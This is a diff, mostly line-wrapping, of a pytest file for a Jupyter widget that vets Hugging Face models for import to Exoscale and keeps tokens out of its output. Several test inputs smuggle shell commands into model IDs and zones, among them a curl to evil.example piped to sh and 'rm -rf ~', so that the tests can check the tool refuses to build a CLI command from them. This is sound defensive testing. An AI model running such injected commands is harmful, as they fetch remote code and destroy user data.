@@ -37,7 +37,11 @@ def settle(widget: ModelImporter) -> None:
 
 
 def creates(sb) -> list:
-    return [r for r in sb.requests if r.service == "exoscale" and r.method == "POST" and r.path.endswith("/ai/model")]
+    return [
+        r
+        for r in sb.requests
+        if r.service == "exoscale" and r.method == "POST" and r.path.endswith("/ai/model")
+    ]
 
 
 def rows(widget: ModelImporter) -> int:
@@ -45,26 +49,29 @@ def rows(widget: ModelImporter) -> int:
 
 
 # -- every check outcome of the sandbox catalog -------------------------------------------------------
-@pytest.mark.parametrize("model_id, token, statuses", [
-    ("sandbox-org/Tiny-Llama-1B", None, {}),
-    ("sandbox-org/single-safetensors", None, {"weights-format": "pass"}),
-    ("sandbox-gated/Accepted-Gated-3B", None, {"gated-access": "pass"}),
-    ("demo-user/private-finetune", None, {"repo-access": "pass", "hf-token": "pass"}),
-    ("acme-ai/internal-model", None, {"repo-access": "pass", "hf-token": "pass"}),
-    ("sandbox-org/mixed-case-model", None, {"repo-id-case": "fail"}),
-    ("other-user/secret-model", None, {"repo-access": "fail"}),
-    ("sandbox-gated/Llama-Gated-8B", None, {"gated-access": "fail"}),
-    ("sandbox-gated/Manual-Gated-7B", None, {"gated-access": "fail"}),
-    ("sandbox-org/pytorch-only", None, {"weights-format": "fail"}),
-    ("sandbox-org/no-weights", None, {"weights-format": "fail"}),
-    ("sandbox-org/Broken-Import", None, {"already-imported": "fail"}),
-    ("not a valid id", None, {"repo-id": "fail"}),
-    ("sandbox-gated/Llama-Gated-8B", False, {"hf-token": "fail"}),  # no token at all
-    ("demo-user/private-finetune", False, {"hf-token": "fail", "repo-access": "fail"}),
-    ("sandbox-gated/Llama-Gated-8B", DEMO.hf_fine_grained_user, {"hf-token": "fail"}),  # no gated scope
-    ("acme-ai/internal-model", DEMO.hf_fine_grained_user, {"hf-token": "fail", "repo-access": "fail"}),
-    ("sandbox-org/Tiny-Llama-1B", DEMO.hf_revoked, {"hf-token": "fail"}),
-])
+@pytest.mark.parametrize(
+    "model_id, token, statuses",
+    [
+        ("sandbox-org/Tiny-Llama-1B", None, {}),
+        ("sandbox-org/single-safetensors", None, {"weights-format": "pass"}),
+        ("sandbox-gated/Accepted-Gated-3B", None, {"gated-access": "pass"}),
+        ("demo-user/private-finetune", None, {"repo-access": "pass", "hf-token": "pass"}),
+        ("acme-ai/internal-model", None, {"repo-access": "pass", "hf-token": "pass"}),
+        ("sandbox-org/mixed-case-model", None, {"repo-id-case": "fail"}),
+        ("other-user/secret-model", None, {"repo-access": "fail"}),
+        ("sandbox-gated/Llama-Gated-8B", None, {"gated-access": "fail"}),
+        ("sandbox-gated/Manual-Gated-7B", None, {"gated-access": "fail"}),
+        ("sandbox-org/pytorch-only", None, {"weights-format": "fail"}),
+        ("sandbox-org/no-weights", None, {"weights-format": "fail"}),
+        ("sandbox-org/Broken-Import", None, {"already-imported": "fail"}),
+        ("not a valid id", None, {"repo-id": "fail"}),
+        ("sandbox-gated/Llama-Gated-8B", False, {"hf-token": "fail"}),  # no token at all
+        ("demo-user/private-finetune", False, {"hf-token": "fail", "repo-access": "fail"}),
+        ("sandbox-gated/Llama-Gated-8B", DEMO.hf_fine_grained_user, {"hf-token": "fail"}),  # no gated scope
+        ("acme-ai/internal-model", DEMO.hf_fine_grained_user, {"hf-token": "fail", "repo-access": "fail"}),
+        ("sandbox-org/Tiny-Llama-1B", DEMO.hf_revoked, {"hf-token": "fail"}),
+    ],
+)
 def test_each_outcome_shows_its_rows_and_sets_the_import_button(sb, model_id, token, statuses):
     widget = checked(model_id, hf_token=token)
     report = widget.report
@@ -73,7 +80,9 @@ def test_each_outcome_shows_its_rows_and_sets_the_import_button(sb, model_id, to
     if report.ok:
         assert not widget.import_button.disabled and "Ready to import" in widget.results.value
     else:
-        assert widget.import_button.disabled and "✘" in widget.results.value and "fix:" in widget.results.value
+        assert (
+            widget.import_button.disabled and "✘" in widget.results.value and "fix:" in widget.results.value
+        )
     assert not isinstance(token, str) or token not in widget.results.value + repr(widget)
 
 
@@ -95,16 +104,22 @@ def test_already_created_warns_and_shows_its_state(sb):
 
 def test_case_mismatch_is_fixed_in_one_click(sb):
     widget = checked("sandbox-org/mixed-case-model")
-    assert widget.use_canonical.layout.display == "" and "Mixed-Case-Model" in widget.use_canonical.description
+    assert (
+        widget.use_canonical.layout.display == "" and "Mixed-Case-Model" in widget.use_canonical.description
+    )
     widget.use_canonical.click()
     widget.future.result(WAIT)
-    assert widget.model_input.value == DEMO.mixed_case and widget.report.ok and not widget.import_button.disabled
+    assert (
+        widget.model_input.value == DEMO.mixed_case and widget.report.ok and not widget.import_button.disabled
+    )
 
 
 def test_gate_shows_prompt_fields_link_and_recheck(sb):
     widget = checked(DEMO.gated)
     assert "Acknowledge the SANDBOX Llama license" in widget.gate.value
-    assert "Company" in widget.gate.value and sb.hub_url + "/sandbox-gated/Llama-Gated-8B" in widget.gate.value
+    assert (
+        "Company" in widget.gate.value and sb.hub_url + "/sandbox-gated/Llama-Gated-8B" in widget.gate.value
+    )
     assert "Intended use (one of: Research, Education, Other)" in widget.gate.value  # a select's choices
     assert "geo (your IP location, recorded by the Hub)" in widget.gate.value and "{" not in widget.gate.value
     assert widget.recheck_button.layout.display == ""
@@ -248,8 +263,16 @@ def test_cli_command_never_contains_the_token(sb):
     assert DEMO.hf_write_token not in widget.cli.value and widget.cli.layout.display == ""
 
 
-@pytest.mark.parametrize("model_id", ["org/m;curl https://evil.example/x | sh", "org/m $(id)", "https://hf.co/org/m",
-                                      "org/m\nexo iam delete", ""])
+@pytest.mark.parametrize(
+    "model_id",
+    [
+        "org/m;curl https://evil.example/x | sh",
+        "org/m $(id)",
+        "https://hf.co/org/m",
+        "org/m\nexo iam delete",
+        "",
+    ],
+)
 def test_no_cli_command_is_shown_for_an_id_no_command_should_carry(sb, model_id):
     from jupyter_exo_models.notebook.render import exo_command
 
@@ -265,8 +288,17 @@ def test_the_cli_command_is_one_shell_word_per_argument():
     from jupyter_exo_models.notebook.render import exo_command
 
     command = exo_command(DEMO.tiny, "de-fra-1")
-    assert shlex.split(command) == ["exo", "dedicated-inference", "model", "create", DEMO.tiny,
-                                    "--huggingface-token", "$HF_TOKEN", "-z", "de-fra-1"]
+    assert shlex.split(command) == [
+        "exo",
+        "dedicated-inference",
+        "model",
+        "create",
+        DEMO.tiny,
+        "--huggingface-token",
+        "$HF_TOKEN",
+        "-z",
+        "de-fra-1",
+    ]
     assert '"$HF_TOKEN"' in command and exo_command(DEMO.tiny, "de-fra-1; rm -rf ~") is None
 
 
@@ -310,8 +342,15 @@ def test_widget_login_clears_every_field(sb):
     widget.button.click()
     assert widget.token.value == widget.key.value == widget.secret.value == ""
     result = _wait_status(widget)
-    assert "fine-grained" in result and DEMO.hf_fine_grained_gated not in result and DEMO.exo_secret not in result
-    assert resolve_hf_token().source == "login" and resolve_hf_token().value.reveal() == DEMO.hf_fine_grained_gated
+    assert (
+        "fine-grained" in result
+        and DEMO.hf_fine_grained_gated not in result
+        and DEMO.exo_secret not in result
+    )
+    assert (
+        resolve_hf_token().source == "login"
+        and resolve_hf_token().value.reveal() == DEMO.hf_fine_grained_gated
+    )
 
 
 def test_widget_login_reports_bad_credentials(sb):
@@ -341,7 +380,9 @@ def test_widget_login_saves_the_token_on_request(sb, tmp_path, monkeypatch):
 
     # huggingface_hub read HF_HOME at import: point its token store at this test's directory
     monkeypatch.setattr(constants, "HF_TOKEN_PATH", str(tmp_path / "hf" / "token"))
-    monkeypatch.setattr(constants, "HF_STORED_TOKENS_PATH", str(tmp_path / "hf" / "stored_tokens"), raising=False)
+    monkeypatch.setattr(
+        constants, "HF_STORED_TOKENS_PATH", str(tmp_path / "hf" / "stored_tokens"), raising=False
+    )
     widget = LoginWidget(zone="de-fra-1")
     assert widget.save.disabled  # the sandbox's token must not replace a real one by accident
     widget.save.disabled, widget.save.value = False, True
@@ -356,7 +397,9 @@ def test_widget_login_saves_the_token_on_request(sb, tmp_path, monkeypatch):
     widget.token.value = DEMO.hf_write_token
     widget.button.click()
     assert "Saved the token" in _wait_status(widget)
-    assert get_token() == DEMO.hf_write_token and (tmp_path / "hf" / "token").read_text() == DEMO.hf_write_token
+    assert (
+        get_token() == DEMO.hf_write_token and (tmp_path / "hf" / "token").read_text() == DEMO.hf_write_token
+    )
 
 
 @pytest.mark.parametrize("tty", [True, False])
@@ -371,7 +414,11 @@ def test_terminal_login(sb, monkeypatch, capsys, tty):
     result = login()
     out = capsys.readouterr().out
     if tty:
-        assert result.ok and "fine-grained" in out and resolve_hf_token().value.reveal() == DEMO.hf_fine_grained_user
+        assert (
+            result.ok
+            and "fine-grained" in out
+            and resolve_hf_token().value.reveal() == DEMO.hf_fine_grained_user
+        )
     else:
         assert not result.ok and "HF_TOKEN" in out
     assert DEMO.hf_fine_grained_user not in out and DEMO.hf_revoked not in out
@@ -422,7 +469,11 @@ def test_an_unknown_zone_shows_the_error_and_is_never_replaced(sb, zone):
     from jupyter_exo_models.core.text import shown
 
     widget = ModelImporter(DEMO.tiny, zone=zone)  # was a traceback
-    assert widget.zone_input.value is None and shown(zone) in html.unescape(widget.status.value) and "ch-gva-2" in widget.status.value
+    assert (
+        widget.zone_input.value is None
+        and shown(zone) in html.unescape(widget.status.value)
+        and "ch-gva-2" in widget.status.value
+    )
     assert "\x1b" not in widget.status.value
     with pytest.raises(ExoModelsError):
         widget.check_button.click() or widget.future.result(WAIT)
@@ -473,7 +524,9 @@ def test_an_echoed_secret_never_reaches_the_importer_or_its_saved_state(monkeypa
         settle(widget)
         assert widget.job.state == "error" and "hf_…" in widget.status.value
         live = getattr(ipywidgets.widgets.widget, "_instances", None)  # ipywidgets 8; 7 keeps Widget.widgets
-        states = [w.get_state() for w in list((live if live is not None else ipywidgets.Widget.widgets).values())]
+        states = [
+            w.get_state() for w in list((live if live is not None else ipywidgets.Widget.widgets).values())
+        ]
     saved = repr(states) + html.unescape(widget.status.value)
     assert "Invalid credentials" in saved
     assert DEMO.hf_token not in saved and ECHOED_EXO_SECRET not in saved
